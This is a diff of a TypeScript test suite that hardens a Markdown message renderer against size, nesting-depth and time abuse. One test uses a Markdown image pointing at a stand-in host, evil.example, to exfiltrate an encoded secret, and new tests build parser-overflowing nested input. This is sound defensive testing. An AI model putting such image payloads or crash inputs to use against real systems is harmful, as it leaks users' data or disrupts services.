@@ -1,10 +1,20 @@
 // @vitest-environment jsdom
 import { describe, expect, it } from 'vitest';
-import { renderMarkdown, sanitizeHtml } from './markdown.js';
+import {
+  MARKDOWN_MAX_CHARS,
+  MARKDOWN_MAX_DEPTH,
+  MARKDOWN_MAX_ELEMENTS,
+  MARKDOWN_UNTIMED_CHARS,
+  markdownDepth,
+  renderMessage,
+  sanitizeHtml,
+} from './markdown.js';
 
 /** The rendered message as a DOM, as the page would hold it. */
 function render(text: string): HTMLElement {
-  return parse(renderMarkdown(text));
+  const rendered = renderMessage(text);
+  if (!('html' in rendered)) throw new Error(`shown as plain text (${rendered.plain})`);
+  return parse(rendered.html);
 }
 
 function parse(html: string): HTMLElement {
@@ -22,7 +32,7 @@ function fetchedUrls(container: HTMLElement): string[] {
   );
 }
 
-describe(renderMarkdown.name, () => {
+describe(renderMessage.name, () => {
   it('renders a Markdown image as a link showing its alt text, and loads nothing', () => {
     const leak = 'https://evil.example/leak?d=%7B%22secret%22%3A1%7D';
     const container = render(`Here: ![the logo](${leak} "Logo")`);
@@ -158,5 +168,104 @@ describe(sanitizeHtml.name, () => {
     expect(container.textContent).toContain('unsafe');
     expect(container.textContent).toContain('image');
     expect(container.textContent).toContain('cell');
+  });
+});
+
+// What would overflow marked's stack or take it seconds is shown as plain text.
+describe('renderMessage bounds', () => {
+  const deepQuotes = '>'.repeat(3000) + ' deep';
+  const deepQuotesAlone = '>'.repeat(3000);
+  const deepLists = '- '.repeat(3000) + 'deep';
+  const indentedLists = Array.from({ length: 100 }, (_, i) => `${' '.repeat(i * 2)}- level ${i}`);
+  const nestedEmphasis = '*a '.repeat(2000) + 'b' + ' c*'.repeat(2000);
+
+  it('shows nesting thousands of levels deep as plain text, without parsing it', () => {
+    for (const text of [
+      deepQuotes,
+      deepQuotesAlone,
+      deepLists,
+      indentedLists.join('\n'),
+      nestedEmphasis,
+    ]) {
+      expect(renderMessage(text)).toEqual({ plain: 'depth' });
+    }
+  });
+
+  it('shows a message longer than MARKDOWN_MAX_CHARS as plain text, whatever it holds', () => {
+    const prose = 'Plain **prose**. '.repeat(Math.ceil(MARKDOWN_MAX_CHARS / 17) + 1);
+    expect(renderMessage(prose)).toEqual({ plain: 'size' });
+    expect(renderMessage('*a'.repeat(131_072))).toEqual({ plain: 'size' });
+    expect('html' in renderMessage(prose.slice(0, MARKDOWN_MAX_CHARS), Infinity)).toBe(true);
+  });
+
+  it('shows Markdown that makes more than MARKDOWN_MAX_ELEMENTS elements as plain text', () => {
+    const table = `|a|b|\n|-|-|\n${'|x|y|\n'.repeat(MARKDOWN_MAX_ELEMENTS)}`;
+    expect(renderMessage(table, Infinity)).toEqual({ plain: 'size' });
+    const smaller = `|a|b|\n|-|-|\n${'|x|y|\n'.repeat(100)}`;
+    expect('html' in renderMessage(smaller, Infinity)).toBe(true);
+  });
+
+  it('shows a message as plain text once its time budget is spent', () => {
+    const markers = '_a'.repeat(MARKDOWN_MAX_CHARS / 2);
+    expect(renderMessage(markers, 0)).toEqual({ plain: 'time' });
+    // A short message is always rendered: nothing that short can take long.
+    const short = `**bold** ${'_a'.repeat(MARKDOWN_UNTIMED_CHARS / 2 - 5)}`;
+    expect(short.length).toBeLessThanOrEqual(MARKDOWN_UNTIMED_CHARS);
+    const rendered = renderMessage(short, 0);
+    expect('html' in rendered && rendered.html).toContain('<strong>bold</strong>');
+  });
+
+  it('renders ordinary nesting, and deep indentation inside fenced code, as Markdown', () => {
+    const container = render(
+      [
+        '> quoted',
+        '> > twice',
+        '',
+        ...indentedLists.slice(0, 8),
+        '',
+        '***bold and em*** and [a [bracketed] link](https://example.com)',
+        '',
+        '```',
+        `${' '.repeat(120)}deeply indented code`,
+        '```',
+      ].join('\n'),
+    );
+    expect(container.querySelectorAll('blockquote')).toHaveLength(2);
+    expect(container.querySelectorAll('ul')).toHaveLength(8);
+    expect(container.querySelector('strong em, em strong')?.textContent).toBe('bold and em');
+    expect(container.querySelector('pre code')?.textContent).toContain('deeply indented code');
+  });
+});
+
+describe(markdownDepth.name, () => {
+  it('counts block quote and list markers, and two columns of indentation, per line', () => {
+    expect(markdownDepth('plain text')).toBe(0);
+    expect(markdownDepth('> > > a')).toBe(3);
+    expect(markdownDepth('>>>>a')).toBe(4);
+    expect(markdownDepth('>>>>>>')).toBe(6);
+    expect(markdownDepth('- 1. * + > a')).toBe(5);
+    expect(markdownDepth('- a\n  - b\n    - c')).toBe(3);
+    expect(markdownDepth('\t\t- a')).toBe(5);
+    expect(markdownDepth('-a and 1.5 and 2020. and *a')).toBe(1);
+  });
+
+  it('counts emphasis, strikethrough and brackets open at once in a paragraph', () => {
+    expect(markdownDepth('*a* _b_ ~~c~~ [d](e) *a*a*a*a*a')).toBe(2);
+    expect(markdownDepth('***a*** and **b**')).toBe(3);
+    expect(markdownDepth('*a *b *c d* e* f*')).toBe(3);
+    expect(markdownDepth('[[[x]]]')).toBe(3);
+    expect(markdownDepth('snake_case_name and 2 * 3 and \\*\\*\\*')).toBe(0);
+    // A paragraph ends at a blank line; what it left open is closed.
+    expect(markdownDepth('*a *b\n\n*c *d')).toBe(2);
+    expect(markdownDepth('*a *b\n*c *d')).toBe(4);
+  });
+
+  it('skips fenced code at the top level, up to its closing fence', () => {
+    const code = '```js\n' + '> '.repeat(100) + '\n```\n';
+    expect(markdownDepth(code)).toBe(0);
+    expect(markdownDepth(code + '> > a')).toBe(2);
+    expect(markdownDepth('~~~~\n' + ' '.repeat(100) + 'x\n~~~\n' + ' '.repeat(100) + 'x')).toBe(0);
+    expect(markdownDepth('``` a`b\n> > > a')).toBe(3); // not a fence: its info has a backtick
+    expect(MARKDOWN_MAX_DEPTH).toBeLessThan(100);
   });
 });
